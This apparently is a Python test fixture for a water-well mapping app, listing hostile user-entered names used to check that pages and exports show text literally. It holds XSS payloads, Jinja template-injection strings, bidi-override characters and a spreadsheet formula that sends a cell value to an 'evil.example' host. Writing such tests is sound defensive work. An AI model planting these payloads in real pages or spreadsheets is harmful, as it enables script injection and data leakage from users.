"""The hostile-input corpus: texts an attacker or a careless user may type, paste or import.

Every page and every import path runs through these (see the README's security section for where). Each entry is the
text as typed; `stored(text)` is what the model keeps of it (bidi and control characters removed, one line for
single-line fields), which is what a page must then show, literally. Files and snapshots are built at test time by
`tests/loaders/hostile_files.py` and `tests/loaders/hostile_snapshots.py` (no binary bombs in git).
"""
from __future__ import annotations

from loaders import model

NAMES: tuple[str, ...] = (
    "{{ 未闭合",  # Jinja: an unclosed expression used to take every map page down
    "{% if x %}测试",  # Jinja: a statement
    "{{ 7*7 }} 与 {{ config }}",  # Jinja: must show literally, never 49
    "{# 注释",  # Jinja: comment start
    "<script>alert('名称')</script>",
    "<img src=x onerror=alert(1)>图片",
    "</script><script>alert(3)</script>",
    "${alert(2)} 模板字符串",
    "`反引号` 与 \\1 反斜杠",
    "\\u0041\\x41 转义序列",
    "'; alert(4); //",
    '"双引号" & 和号',
    "feature_group_0 map_div xz001 变量名",  # names of the map's own JS variables
    "{{'feature_group_0'}}",  # the pattern streamlit-folium resolves into a variable
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',  # formula injection
    "+1+1",
    "-2 号井",
    "@SUM(A1)",
    "\t制表符开头",
    "\u202e反转文字",  # right-to-left override
    "行一\n行二",  # a line break in a one-line field
    "[链接](javascript:alert(5))",
    "**粗体** _斜体_ # 标题",
    "$$x^2$$ 公式",
    "&lt;已转义&gt; &amp;",
    "行\u2028分隔",
    "🚰 水井 emoji",
    "井" * 100,  # the longest name the model allows
)


def stored(text: str, multiline: bool = False) -> str:
    """What the store keeps of a typed text."""
    return model.clean_text(text, multiline)


def name_at(i: int) -> str:
    """The i-th hostile name, cycling; names must differ, so later cycles get a number (within 100 characters)."""
    base = NAMES[i % len(NAMES)]
    return base if i < len(NAMES) else (base[:90] + f" #{i}")


HOSTILE_EDITOR = "{{编辑}}<b>"  # a user name that is markup; allowed (no spaces or control characters)


def make_store(path) -> None:
    """Rename every point of the store at `path` to a hostile name (tests/hostile.py) and give it hostile text,
    through the store as staff would; add a hostile follow-up and an edit by a user whose name is markup."""
    from loaders import auth
    from loaders.store import Filter, GeoPackageStore

    store = GeoPackageStore(path)
    points = store.points(Filter(include_deleted=True))
    for i, (point_id, version) in enumerate(zip(points["id"], points["version"])):
        name = name_at(i)
        store.update_point(point_id, {"name": name, "village": NAMES[(i + 5) % len(NAMES)][:50],
                                      "description": "\n".join(NAMES)[:2000]}, int(version), "hostile")
    script = store.point(points["id"].iloc[NAMES.index("<script>alert('名称')</script>")])
    store.add_follow_up(script["id"], {"text": "\n".join(NAMES[:10]), "author": NAMES[0]},
                        script["version"], HOSTILE_EDITOR)
    auth.add_user(store, HOSTILE_EDITOR, "hostile-password-1", "admin")
